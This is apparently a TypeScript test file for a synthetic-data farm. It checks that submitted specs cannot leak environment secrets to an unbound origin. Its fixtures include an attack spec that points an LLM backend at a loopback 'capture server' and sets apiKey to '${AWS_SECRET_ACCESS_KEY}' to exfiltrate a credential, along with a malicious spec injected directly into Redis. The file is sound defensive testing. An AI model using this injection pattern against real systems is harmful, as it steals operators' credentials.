import { createServer as createHttpServer, request as httpRequest, type IncomingMessage, type Server } from 'node:http';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer } from '@synthfarm/api';
import { connectFarm, createFarmService, runCoordinator, submitRun, type FarmConnection, type FarmService } from '@synthfarm/farm';
import { createFarmPolicy, parseSpecText } from '@synthfarm/spec';
import { tempDir } from '../support/cli.js';
import { killAll, runCli, spawnWorker, startSim, waitFor } from '../support/farm-harness.js';
import { startRedis, type RedisHandle } from '../support/redis-server.js';

/**
 * Issue 7: a spec submitted to a farm (POST /runs, `run --redis`, or written straight into Redis)
 * must not make a worker send its environment anywhere. Secrets are bound by the operator to one
 * origin each (DESIGN §11); a capture server on another loopback port stands for the attacker.
 */

const AWS_SECRET = 'aws-secret-0123456789abcdef';
const OPENAI_KEY = 'sk-bound-key-9876543210';

interface Seen {
  method: string;
  url: string;
  authorization: string | undefined;
  body: string;
}

/** A loopback HTTP server recording every request; `forward` proxies to another server (the sim) after recording. */
async function recordingServer(forward?: string): Promise<{ server: Server; origin: string; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = createHttpServer((req: IncomingMessage, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks);
      seen.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization, body: body.toString('utf8') });
      if (!forward) {
        res.writeHead(401, { 'content-type': 'application/json' }).end('{"error":{"message":"captured"}}');
        return;
      }
      const target = new URL(req.url ?? '/', forward);
      const headers = { ...req.headers, host: target.host, 'content-length': String(body.length) };
      const up = httpRequest(target, { method: req.method, headers }, (r) => {
        res.writeHead(r.statusCode ?? 502, r.headers);
        r.pipe(res);
      });
      up.on('error', () => res.writeHead(502).end());
      up.end(body);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const addr = server.address();
  return { server, origin: `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`, seen };
}

/** A one-dataset spec whose llm field is written by backend `quality` (openai at `baseUrl`). */
function spec(baseUrl: string, apiKey: string | undefined, count = 10): string {
  return `name: people
count: ${count}
batchSize: 10
fields:
  id: { kind: sequence }
  bio: { kind: llm, prompt: "one sentence about person {{id}}", maxLength: 80 }
stages:
  generate: { backend: quality }
backends:
  quality: { provider: openai, model: "qwen2.5:7b", baseUrl: "${baseUrl}/v1"${apiKey === undefined ? '' : `, apiKey: "${apiKey}"`}, maxRetries: 0 }
`;
}

let tmp: { dir: string; cleanup: () => Promise<void> };
let redis: RedisHandle;
let farm: FarmConnection;
let capture: Awaited<ReturnType<typeof recordingServer>>;
let openai: Awaited<ReturnType<typeof recordingServer>>;
let simUrl: string;

beforeAll(async () => {
  tmp = await tempDir('synthfarm-secrets-');
  redis = await startRedis();
  farm = await connectFarm(redis.url);
  capture = await recordingServer();
  ({ url: simUrl } = await startSim({ tokensPerSecond: 1e6 }));
  // The "OpenAI" the operator binds the key to: a loopback server in front of the sim.
  openai = await recordingServer(simUrl);
}, 60_000);

afterAll(async () => {
  await killAll();
  for (const s of [capture?.server, openai?.server]) await new Promise((r) => (s ? s.close(() => r(undefined)) : r(undefined)));
  await farm?.close();
  await redis?.stop();
  await tmp?.cleanup();
});

/** Every byte the capture server was sent: nothing at all is expected. */
function captured(): string {
  return JSON.stringify(capture.seen);
}

describe('POST /runs (the API server)', () => {
  let app: FastifyInstance;
  let service: FarmService;
  beforeAll(async () => {
    // The server's own environment holds both secrets; a posted spec must reach neither.
    service = createFarmService(farm, {
      policy: createFarmPolicy({ secrets: [{ name: 'OPENAI_API_KEY', origin: openai.origin }] }),
      env: { OPENAI_API_KEY: OPENAI_KEY, AWS_SECRET_ACCESS_KEY: AWS_SECRET },
    });
    app = await createServer({ service, outRoot: join(tmp.dir, 'api'), insecure: true });
  });
  afterAll(async () => {
    await app?.close();
    await service?.close();
  });

  const post = (text: string) => app.inject({ method: 'POST', url: '/runs', headers: { 'content-type': 'text/yaml' }, payload: text });

  it('the attack: ${AWS_SECRET_ACCESS_KEY} as apiKey to a capture server → 400, nothing recorded, nothing sent', async () => {
    const before = (await farm.store.list(100)).length;
    const res = await post(spec(capture.origin, '${AWS_SECRET_ACCESS_KEY}'));
    expect(res.statusCode).toBe(400);
    expect(res.json()).toEqual({
      error: 'backends.quality.apiKey: secret AWS_SECRET_ACCESS_KEY is not bound on this farm: a submitted spec may only name a secret the operator bound to its origin (--secret AWS_SECRET_ACCESS_KEY@ORIGIN, or SYNTHFARM_SECRETS)',
      path: 'backends.quality.apiKey',
    });
    expect((await farm.store.list(100)).length).toBe(before);
    expect(capture.seen).toEqual([]);
  });

  it('a bound secret sent to another port of loopback → 400 naming both origins', async () => {
    const res = await post(spec(capture.origin, '${OPENAI_API_KEY}'));
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toBe(`backends.quality.apiKey: secret OPENAI_API_KEY may only be sent to ${openai.origin}, not ${capture.origin}`);
    expect(capture.seen).toEqual([]);
  });

  it('a literal key → 400, and no run (so no key) is stored', async () => {
    const before = (await farm.store.list(100)).length;
    const res = await post(spec(openai.origin, 'sk-literal-000111'));
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatch(/^backends\.quality\.apiKey: a literal API key is refused in a submitted spec/);
    expect((await farm.store.list(100)).length).toBe(before);
  });

  it('a remote baseUrl that is not allowlisted, even without a key → 400', async () => {
    const res = await post(spec(capture.origin, undefined));
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ path: 'backends.quality.baseUrl', error: expect.stringContaining(`origin ${capture.origin} is not allowed on this farm`) });
    expect(capture.seen).toEqual([]);
  });

  it('a bound secret reaches its origin (port included) from the worker; the Redis run hash holds no key value', async () => {
    const worker = await spawnWorker({
      redisUrl: redis.url, host: { name: 'gpu1', url: simUrl },
      extraArgs: ['--no-schedules', '--secret', `OPENAI_API_KEY@${openai.origin}`],
      env: { OPENAI_API_KEY: OPENAI_KEY, AWS_SECRET_ACCESS_KEY: AWS_SECRET },
    });
    try {
      const res = await post(spec(openai.origin, '${OPENAI_API_KEY}'));
      expect(res.statusCode).toBe(201);
      const { runId } = res.json() as { runId: string };
      const run = await waitFor(async () => {
        const s = await farm.store.summary(runId);
        return s && s.state !== 'queued' && s.state !== 'running' ? s : undefined;
      }, { timeoutMs: 60_000, what: `run ${runId} to end` });
      expect(run).toMatchObject({ state: 'completed', written: 10, rejected: 0 });
      const calls = openai.seen.filter((s) => s.url.includes('/chat/completions'));
      expect(calls.length).toBeGreaterThan(0);
      for (const c of openai.seen) expect(c.authorization).toBe(`Bearer ${OPENAI_KEY}`);
      expect(captured()).toBe('[]');
      const hash = JSON.stringify(await farm.redis.hgetall(farm.keys.run(runId)));
      expect(hash).toContain('${OPENAI_API_KEY}');
      expect(hash).not.toContain(OPENAI_KEY);
      expect(hash).not.toContain(AWS_SECRET);
      const csv = await readFile(join(run.outDir, 'people.csv'), 'utf8');
      expect(csv.split('\n').filter(Boolean)).toHaveLength(11);
    } finally {
      worker.kill('SIGKILL');
      await worker.exited;
    }
  }, 90_000);
});

describe('synthfarm run --redis', () => {
  it('the attack spec exits 2 naming the path; the capture server sees nothing', async () => {
    const file = join(tmp.dir, 'attack.yaml');
    await writeFile(file, spec(capture.origin, '${AWS_SECRET_ACCESS_KEY}'));
    const res = await runCli(['run', file, '--redis', redis.url, '--out', join(tmp.dir, 'cli-out')], { AWS_SECRET_ACCESS_KEY: AWS_SECRET });
    expect(res.stderr).toBe('synthfarm: backends.quality.apiKey: secret AWS_SECRET_ACCESS_KEY is not bound on this farm: a submitted spec may only name a secret the operator bound to its origin (--secret AWS_SECRET_ACCESS_KEY@ORIGIN, or SYNTHFARM_SECRETS)\n');
    expect(res.code).toBe(2);
    expect(capture.seen).toEqual([]);
  }, 30_000);

  it('a bad --secret is a usage error naming the option and the rule', async () => {
    const file = join(tmp.dir, 'ok.yaml');
    await writeFile(file, spec(openai.origin, undefined));
    const res = await runCli(['run', file, '--redis', redis.url, '--secret', 'OPENAI_API_KEY=https://api.openai.com']);
    expect(res.stderr).toBe('synthfarm: --secret OPENAI_API_KEY=https://api.openai.com: expected NAME@ORIGIN, e.g. OPENAI_API_KEY@https://api.openai.com (an origin is scheme://host[:port] (http or https), no path, e.g. https://api.openai.com)\n');
    expect(res.code).toBe(2);
  }, 30_000);
});

describe('a malicious spec written straight into Redis (no submission check)', () => {
  it.each([
    ['an unbound variable', '${AWS_SECRET_ACCESS_KEY}', 'secret AWS_SECRET_ACCESS_KEY is not bound on worker gpu1'],
    ['a bound secret to the wrong origin', '${OPENAI_API_KEY}', 'secret OPENAI_API_KEY may only be sent to'],
  ])('%s: the worker sends nothing to the capture server; the batches are rejected naming why', async (_what, apiKey, why) => {
    // Parsed as an embedded spec (no policy): what an attacker with Redis access could store.
    const loaded = parseSpecText(spec(capture.origin, apiKey), 'evil.yaml', { env: {} });
    const runId = await submitRun(farm.store, loaded, { outDir: join(tmp.dir, `evil-${apiKey.length}`) });
    const worker = await spawnWorker({
      redisUrl: redis.url, host: { name: 'gpu1', url: simUrl },
      extraArgs: ['--no-schedules', '--secret', `OPENAI_API_KEY@${openai.origin}`],
      env: { OPENAI_API_KEY: OPENAI_KEY, AWS_SECRET_ACCESS_KEY: AWS_SECRET },
    });
    const manifest = await runCoordinator({ farm, runId }).finally(() => worker.kill('SIGKILL'));
    await worker.exited;
    expect(manifest.datasets.people).toMatchObject({ written: 0, rejected: 10 });
    const rejects = await readFile(join(tmp.dir, `evil-${apiKey.length}`, 'rejects.jsonl'), 'utf8');
    expect(rejects).toContain(why);
    expect(capture.seen).toEqual([]);
    expect(rejects).not.toContain(AWS_SECRET);
    expect(rejects).not.toContain(OPENAI_KEY);
  }, 60_000);
});
